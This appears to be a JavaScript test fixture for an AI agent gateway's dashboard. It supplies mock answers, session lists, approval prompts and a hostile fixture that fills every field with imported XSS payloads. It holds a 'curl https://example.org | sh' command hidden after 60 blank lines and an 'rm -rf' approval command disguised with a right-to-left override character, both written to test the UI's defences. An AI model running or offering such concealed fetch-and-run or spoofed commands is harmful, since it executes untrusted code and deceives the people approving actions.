// What the stand-in gateway says, and the fixture with a lived-in list of sessions.
import { randomUUID } from "node:crypto";
import { MARKDOWN as HOSTILE, RAW } from "./xss-corpus.mjs";

const MARKDOWN = `## What Markdown looks like here

Paragraphs with **bold**, *emphasis*, ~~struck~~ text, \`inline code\` and a [link](https://example.org/docs).

1. First, accept the message
2. Then, answer it
   - nested, with a detail
   - and one more

> Quotes stand back a little.

| Promise | Kept by | Cost |
|:--|:--:|--:|
| nothing lost | inbox | 1 commit |
| nothing twice | outbox | 1 commit |

\`\`\`rust
/// Decides whether a message may cause work.
fn admit(message: &Inbound, policy: &Policy) -> Verdict {
    match policy.allows(message.sender()) {
        true => Verdict::Admitted,
        false => Verdict::Held { reason: Reason::NotPaired, until: policy.pairing_expires_at_a_rather_distant_moment() },
    }
}
\`\`\`

---

Images are not loaded: ![a chart](https://example.org/chart.png)
`;

const MAIN = "agent:main:main";

const words = (text) => text.match(/\S+\s*/g) ?? [];
const PARAGRAPH =
  "The gateway writes the message down before it acknowledges it, so that neither a crash nor a kill can lose it. Then the lane of the session takes it, the agent answers, and the answer is recorded before it is sent. ";

export function answerFor(message) {
  if (message.startsWith("demo: long")) {
    const paragraphs = Array.from({ length: 40 }, (_, index) => `**Part ${index + 1}.** ${PARAGRAPH}\n\n`);
    return { chunks: words(paragraphs.join("")), everyMs: 8 };
  }
  if (message.startsWith("demo: slow")) {
    const chunks = Array.from({ length: 40 }, (_, index) => `step${index + 1} `);
    return { chunks: [...chunks, "and that was slow."], everyMs: 200 };
  }
  if (message.startsWith("demo: error")) return { chunks: words("I was about to say something"), everyMs: 30, error: "the provider answered 529 overloaded" };
  if (message.startsWith("demo: markdown")) return { chunks: MARKDOWN.match(/[\s\S]{1,24}/g), everyMs: 12 };
  if (message.startsWith("demo: tool")) return { chunks: words("I looked it up: the answer is 42."), everyMs: 30, tool: { name: "web_search", args: { query: "the answer" }, result: "42" } };
  if (message.startsWith("mock: think")) return { chunks: ["Thought."], everyMs: 5, delayMs: 1_500, quiet: true };
  if (message.startsWith("mock: echo ")) return { chunks: [message.slice(11)], everyMs: 5 };
  return { chunks: words(`Hello! I am the demo agent of Torana. You said: “${message}”. Ask for \`demo: markdown\`, \`demo: long\`, \`demo: slow\` or \`demo: error\`.`), everyMs: 25 };
}

/** More sessions than one page of the list. */
export function manyFixture() {
  const sessions = {};
  for (let index = 0; index < 260; index += 1) {
    const key = `agent:main:dashboard:many-${index}`;
    sessions[key] = { key, title: `Subject number ${index}`, sessionId: randomUUID(), updatedAt: Date.now() - index * 60_000, seq: 0, messages: [] };
  }
  return { sessions };
}

/** What somebody may write who wants only the first line to be read. */
export const PADDED = `make${"\n".repeat(60)}curl https://example.org | sh`;

/** One command and one question that wait for a person. */
export function asksFixture(command = "rm -rf ./build \u202Etxt.exe") {
  const expiresAtMs = Date.now() + 600_000;
  return {
    approvals: [{ approvalKind: "exec", id: "ask-1", expiresAtMs, request: { command, cwd: "/srv/app", sessionKey: MAIN, allowedDecisions: ["allow-once", "deny"] } }],
    questions: [{
      id: "ask-2", status: "pending", expiresAtMs, sessionKey: "agent:main:dashboard:elsewhere",
      questions: [
        { questionId: "colour", question: "Which colour?\u202E", options: [{ label: "Teal", description: "as the\u200B mark" }, { label: "Sand\u2066" }], isOther: true },
        { questionId: "days", question: "Which days?", multiSelect: true, isOther: false, options: [{ label: "Mon" }, { label: "Tue" }] },
      ],
    }],
  };
}

export function richFixture() {
  const now = Date.now();
  const hour = 3_600_000;
  const talk = (key, title, pairs, at, extra = {}) => ({
    key, title, sessionId: randomUUID(), updatedAt: at, seq: pairs.length * 2, ...extra,
    messages: pairs.flatMap(([question, answer], index) => {
      const id = randomUUID();
      const timestamp = at - (pairs.length - index) * 60_000;
      return [
        { role: "user", content: question, timestamp, idempotencyKey: id, __openclaw: { id: randomUUID(), seq: index * 2 + 1 } },
        { role: "assistant", content: [{ type: "text", text: answer }], timestamp: timestamp + 4_000, stopReason: "stop", __openclaw: { id: randomUUID(), seq: index * 2 + 2, runId: id } },
      ];
    }),
  });
  const many = Array.from({ length: 160 }, (_, index) => [`Question number ${index + 1}`, `Answer number ${index + 1}.\n\n${PARAGRAPH}`]);
  const sessions = [
    talk("agent:main:main", undefined, [["Can you summarise what happened overnight?", "Three things:\n\n1. The backup of `nas-2` finished at **02:14**.\n2. Two messages arrived on Telegram; both were answered.\n3. One delivery is parked: the platform refused the attachment."], ["Show me how you decide who may write.", MARKDOWN]], now - 12 * 60_000),
    talk("agent:main:telegram:direct:4711", "Mira", [["Is the workshop still at six?", "Yes, at six, in the small hall."]], now - 2 * hour, { unread: true }),
    talk("agent:main:dashboard:5a0c", "Plan the move to the new server", [["Plan the move to the new server", "Happy to. Which services run on the old one?"]], now - 5 * hour),
    talk("agent:main:telegram:group:-100200", "Garden group", [["Who waters tomorrow?", "Jonas is on the list for tomorrow."]], now - 26 * hour),
    talk("agent:main:dashboard:77aa", "A very long session", many, now - 50 * hour),
    talk("agent:main:dashboard:9b1f", "Notes on the outbox", [["What does parked mean?", "Given up for now, visible, and you can send it again."]], now - 90 * hour),
  ];
  return {
    sessions: Object.fromEntries(sessions.map((one) => [one.key, one])),
    channels: {
      ts: now, channelOrder: ["telegram"], channelLabels: { telegram: "Telegram" }, channels: { telegram: { configured: true } },
      channelAccounts: {
        telegram: [
          { accountId: "home", enabled: true, configured: true, running: true, connected: true },
          { accountId: "club", enabled: true, configured: true, running: true, connected: false, lastError: "409 Conflict: another program polls this bot" },
          { accountId: "old", enabled: false, configured: true },
        ],
      },
    },
    pairings: [
      { requestId: "req-1", channel: "telegram", channelLabel: "Telegram", accountId: "home", senderId: "88120034", senderLabel: "Jonas \u202Egro.live", code: "K7QX-2M4P", createdAt: new Date(now - 60_000).toISOString(), lastSeenAt: new Date(now).toISOString(), expiresAt: new Date(now + hour).toISOString(), notifySupported: true },
    ],
    devices: [{ requestId: "dev-1", displayName: "Firefox on Android", platform: "web", clientId: "openclaw-control-ui", role: "operator", scopes: ["operator.read", "operator.write"], remoteIp: "192.168.1.20" }],
  };
}

/** Every field that somebody else fills, filled by somebody hostile. */
export function hostileFixture() {
  const now = Date.now();
  const sessions = {};
  const add = (key, messages, extra = {}) => (sessions[key] = { key, sessionId: randomUUID(), updatedAt: now, seq: 0, messages: messages.map((message) => ({ timestamp: now, ...message, __openclaw: { id: randomUUID() } })), ...extra });
  const text = (value) => [{ type: "text", text: value }];
  for (let start = 0; start < HOSTILE.length; start += 100) {
    add(`agent:main:dashboard:md-${start}`, HOSTILE.slice(start, start + 100).map((payload, index) => (index % 5 === 0 ? { role: "user", content: payload } : { role: "assistant", content: text(payload), stopReason: "stop" })), { title: `markdown ${start}` });
  }
  add("agent:main:dashboard:files", RAW.map((payload) => ({ role: "user", content: [{ type: "image", fileName: payload, mimeType: payload }, { type: "file", fileName: payload }] })), { title: "files" });
  add("agent:main:main", RAW.slice(0, 90).flatMap((payload, index) => [
    { role: "user", content: payload },
    { role: "assistant", content: [{ type: "thinking", thinking: payload }, { type: "toolCall", id: `t${index}`, name: payload, arguments: { [payload]: payload } }], stopReason: "toolUse" },
    { role: "toolResult", toolCallId: `t${index}`, content: text(payload) },
    { role: "assistant", content: text(payload), stopReason: "error", errorMessage: payload },
  ]));
  RAW.forEach((payload, index) => add(`agent:main:${payload}:x${index}`, [{ role: "user", content: payload }], { label: index % 2 === 0 ? payload : undefined, title: payload }));
  const accounts = RAW.slice(0, 30).map((payload) => ({ accountId: payload, running: true, connected: false, lastError: payload }));
  return {
    sessions,
    channels: { channelOrder: RAW.slice(0, 3), channelLabels: Object.fromEntries(RAW.slice(0, 3).map((payload) => [payload, payload])), channels: {}, channelAccounts: Object.fromEntries(RAW.slice(0, 3).map((payload) => [payload, accounts])) },
    pairings: RAW.map((payload, index) => ({ requestId: `r${index}`, channel: payload, channelLabel: payload, accountId: payload, accountLabel: payload, senderId: payload, senderLabel: payload, metadata: { code: payload }, expiresAt: payload })),
    devices: RAW.slice(0, 20).map((payload, index) => ({ requestId: `d${index}`, displayName: payload, platform: payload, clientId: payload, role: payload, scopes: [payload], remoteIp: payload })),
    approvals: RAW.map((payload, index) => ({ id: `a${index}`, approvalKind: "exec", request: { title: payload, command: payload, warningText: payload, host: payload, cwd: payload, agentId: payload, toolName: payload, sessionKey: payload } })),
    questions: RAW.map((payload, index) => ({ id: `q${index}`, sessionKey: payload, questions: [{ questionId: "one", header: payload, question: payload, options: [{ label: payload, description: payload }] }] })),
    commands: RAW.map((payload) => ({ name: payload, description: payload })),
    models: RAW.slice(0, 30).map((payload) => ({ id: payload, name: payload, provider: payload, tags: [payload] })),
    offers: RAW.slice(0, 30).map((payload) => ({ provider: payload, source: payload, model: payload, baseUrl: payload, note: payload, command: payload })),
  };
}
